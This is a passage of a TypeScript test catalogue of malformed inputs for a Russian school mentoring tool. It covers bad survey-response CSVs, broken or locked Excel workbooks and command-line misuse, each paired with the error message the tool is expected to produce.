          fullName: "Котов Иван",
          email: "kotov@mail.ru",
          ts: "19.09.2025 11:05:00",
        }),
        pupil({
          birthDate: "14 марта 2011",
          fullName: "Лисина Ая",
          email: "lisina@mail.ru",
          ts: "19.09.2025 11:06:00",
        }),
      ]),
    atFileLine(2, "Дата рождения"),
    3,
  ),
  responsesEntry(
    "A16",
    "категория «Учитель» (нет в списке анкеты)",
    "mentee",
    () => formTable("mentee", [teacher({ category: "Учитель" })]),
    atFileLine(2, "Кто вы"),
    1,
  ),
  responsesEntry(
    "A17",
    "стаж «много» в числовом вопросе",
    "mentee",
    () => formTable("mentee", [teacher({ experienceYears: "много" })]),
    atFileLine(2, "Педагогический стаж, лет"),
    1,
  ),
  responsesEntry(
    "A18",
    "наставник без ФИО",
    "mentor",
    () =>
      formTable("mentor", [
        {
          ts: "19.09.2025 12:00:00",
          category: "Педагог",
          fullName: "",
          email: "anon@school.ru",
          consent: "Да",
        },
      ]),
    atFileLine(2, "Фамилия, имя, отчество"),
    1,
  ),
  responsesEntry(
    "A19",
    "обратная связь по несуществующей паре «П-0099»",
    "feedback",
    () =>
      formTable("feedback", [
        {
          ts: "19.09.2025 12:00:00",
          pairId: "П-0099",
          role: "Наставляемый",
          stage: "Входная",
          comfort: "8",
          consent: "Да",
        },
      ]),
    atFileLine(2),
    1,
  ),
  responsesEntry(
    "A20",
    "обратная связь: оценка «11» и «отлично» по шкале 1–10",
    "feedback",
    () =>
      formTable("feedback", [
        {
          ts: "19.09.2025 12:00:00",
          pairId: "П-0001",
          role: "Наставляемый",
          stage: "Промежуточная",
          comfort: "11",
          usefulness: "отлично",
          consent: "Да",
        },
      ]),
    atFileLine(2, "Насколько вам комфортно работать в паре"),
    1,
  ),
  responsesEntry(
    "A21",
    "предпочтения: выбран наставник, которого нет («НР-0099»)",
    "preference",
    () =>
      formTable("preference", [
        {
          ts: "19.09.2025 12:00:00",
          email: "orlova@school.ru",
          role: "Наставляемый",
          mentorChoice1: "НР-0099",
          consent: "Да",
        },
      ]),
    atFileLine(2),
    1,
  ),
  responsesFileEntry(
    "A22",
    "CSV в кодировке Windows-1251",
    "ответы-1251.csv",
    () =>
      cp1251(
        [
          "Отметка времени;Кто вы;Фамилия, имя, отчество;Адрес электронной почты;Согласие на обработку персональных данных",
          "19.09.2025 10:00:00;Молодой специалист;Новикова Дарья;novikova@school.ru;Да",
        ].join("\r\n"),
      ),
    reads(1),
  ),
  responsesFileEntry("A23", "пустой файл .csv", "пустые.csv", () => "", fileAt("пустые.csv")),
  responsesFileEntry(
    "A24",
    "двоичный мусор под именем .xlsx",
    "ответы.xlsx",
    () => Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 31 + 7) % 256)),
    fileAt("ответы.xlsx"),
  ),
  responsesFileEntry(
    "A25",
    "выгрузка в формате .ods",
    "ответы.ods",
    () => "PK\u0003\u0004 не важно",
    fileAt("ответы.ods"),
  ),
];

// ---------------------------------------------------------------------------------------
// The command line: `nastavnik …` run as a user runs it

const ROOT = resolve(__dirname, "../..");
const TSX = resolve(ROOT, "node_modules/.bin/tsx");

function cli(args: string[]): { code: number; stdout: string; stderr: string } {
  const r = spawnSync(TSX, [resolve(ROOT, "src/local/cli.ts"), ...args], {
    encoding: "utf8",
    cwd: ROOT,
    env: { ...process.env, NO_COLOR: "1" },
  });
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}

async function setUpBook(path: string): Promise<void> {
  await withWorkbookFile(path, { create: true, save: () => true }, (env) => {
    setupWorkbook(env);
  });
}

function cliEntry(
  id: string,
  input: string,
  prepare: (dir: string) => Promise<string[]> | string[],
  expect: (dir: string) => Expectation,
  guarded?: (dir: string) => string,
): BadInput {
  const dir = mkdtempSync(join(scratch, "cli-"));
  return {
    id,
    area: "командная строка",
    input,
    action: "nastavnik …",
    expect: expect(dir),
    async run() {
      const args = await prepare(dir);
      const file = guarded?.(dir);
      const bytes = file && existsSync(file) ? readFileSync(file) : null;
      const r = cli(args);
      const lost: string[] = [];
      if (file && bytes && !readFileSync(file).equals(bytes)) lost.push(`файл «${file}» изменён`);
      return {
        errors: [],
        exitCode: r.code,
        stderr: r.stderr,
        messages: [r.stderr, r.stdout].filter((s) => s.trim() !== ""),
        lost,
      };
    },
  };
}

const cliEntries: BadInput[] = [
  cliEntry(
    "C01",
    "неизвестная команда «frobnicate»",
    () => ["frobnicate"],
    () => ({
      kind: "message",
      where: { column: "frobnicate" },
    }),
  ),
  cliEntry(
    "C02",
    "неизвестный параметр «--bogus»",
    (d) => ["status", join(d, "школа.xlsx"), "--bogus"],
    () => ({
      kind: "message",
      where: { column: "--bogus" },
    }),
  ),
  cliEntry(
    "C03",
    "не указан файл книги",
    () => ["status"],
    () => ({ kind: "message", where: {} }),
  ),
  cliEntry(
    "C04",
    "файла книги нет",
    (d) => ["status", join(d, "нет.xlsx")],
    (d) => fileAt(join(d, "нет.xlsx")),
  ),
  cliEntry(
    "C05",
    "вместо файла книги — папка «книга.xlsx»",
    (d) => {
      mkdirSync(join(d, "книга.xlsx"));
      return ["status", join(d, "книга.xlsx")];
    },
    (d) => fileAt(join(d, "книга.xlsx")),
  ),
  cliEntry(
    "C06",
    "книга занята другим запуском (живой файл блокировки)",
    async (d) => {
      const book = join(d, "школа.xlsx");
      await setUpBook(book);
      writeFileSync(
        `${book}.lock`,
        JSON.stringify({
          pid: process.pid,
          host: (await import("node:os")).hostname(),
          user: "завуч",
          time: new Date().toISOString(),
          token: "чужой",
        }),
      );
      return ["roadmap", "status", book];
    },
    (d) => fileAt(join(d, "школа.xlsx")),
    (d) => join(d, "школа.xlsx"),
  ),
  cliEntry(
    "C07",
    "книга более новой версии схемы",
    async (d) => {
      const book = join(d, "новая.xlsx");
      await setUpBook(book);
      const wb = await XlsxWorkbook.open(book);
      const meta = new XlsxMeta(wb);
      meta.set(
        "setup",
        JSON.stringify({ ...JSON.parse(meta.get("setup") ?? "{}"), version: SCHEMA_VERSION + 1 }),
      );
      await wb.save(book);
      return ["roadmap", "status", book];
    },
    () => ({ kind: "message", where: { column: String(SCHEMA_VERSION + 1) } }),
    (d) => join(d, "новая.xlsx"),
  ),
  cliEntry(
    "C08",
    "файл .xlsx, который не книга Excel (текст)",
    (d) => {
      writeFileSync(join(d, "текст.xlsx"), "это не книга");
      return ["status", join(d, "текст.xlsx")];
    },
    (d) => fileAt(join(d, "текст.xlsx")),
    (d) => join(d, "текст.xlsx"),
  ),
  cliEntry(
    "C09",
    "повреждённый .xlsx (обрезан наполовину)",
    async (d) => {
      const book = join(d, "битая.xlsx");
      await setUpBook(book);
      const bytes = readFileSync(book);
      writeFileSync(book, bytes.subarray(0, Math.floor(bytes.length / 2)));
      return ["status", book];
    },
    (d) => fileAt(join(d, "битая.xlsx")),
    (d) => join(d, "битая.xlsx"),
  ),
  cliEntry(
    "C10",
    "книга Excel, но не Наставника (нет листа «Настройки»)",
    async (d) => {
      const book = join(d, "чужая.xlsx");
      const wb = XlsxWorkbook.create();
      wb.createSheet("Лист1");
      wb.write("Лист1", [{ row: 1, col: 1, value: "Список класса" }]);
      await wb.save(book);
      return ["roadmap", "status", book];
    },
    (d) => fileAt(join(d, "чужая.xlsx")),
    (d) => join(d, "чужая.xlsx"),
  ),
  cliEntry(
    "C11",
    "responses import без --kind",
    async (d) => {
      const book = join(d, "школа.xlsx");
      await setUpBook(book);
      writeFileSync(join(d, "ответы.csv"), "Отметка времени;ФИО\n");
      return ["responses", "import", book, join(d, "ответы.csv")];
    },
    () => ({ kind: "message", where: { column: "--kind" } }),
    (d) => join(d, "школа.xlsx"),
  ),
  cliEntry(
    "C12",
    "responses import: файла ответов нет",
    async (d) => {
      const book = join(d, "школа.xlsx");
      await setUpBook(book);
      return ["responses", "import", book, join(d, "нет-ответов.csv"), "--kind", "mentee"];
    },
    (d) => fileAt(join(d, "нет-ответов.csv")),
    (d) => join(d, "школа.xlsx"),
  ),
  cliEntry(
    "C13",
    "roadmap import: шаблон, которого нет",
    async (d) => {
      const book = join(d, "школа.xlsx");
      await setUpBook(book);
      return ["roadmap", "template", "несуществующий", "--into", book];
    },
    () => ({ kind: "message", where: { column: "несуществующий" } }),
    (d) => join(d, "школа.xlsx"),
  ),
  cliEntry(
    "C14",
    "responses import: вместо файла ответов — папка",
    async (d) => {
      const book = join(d, "школа.xlsx");
      await setUpBook(book);
      mkdirSync(join(d, "ответы.csv"));
      return ["responses", "import", book, join(d, "ответы.csv"), "--kind", "mentee"];
    },
    (d) => fileAt(join(d, "ответы.csv")),
    (d) => join(d, "школа.xlsx"),
  ),
];

export const catalogue: readonly BadInput[] = [
  ...workbookEntries,
  ...roadmapEntries,
  ...responsesEntries,
  ...cliEntries,
];
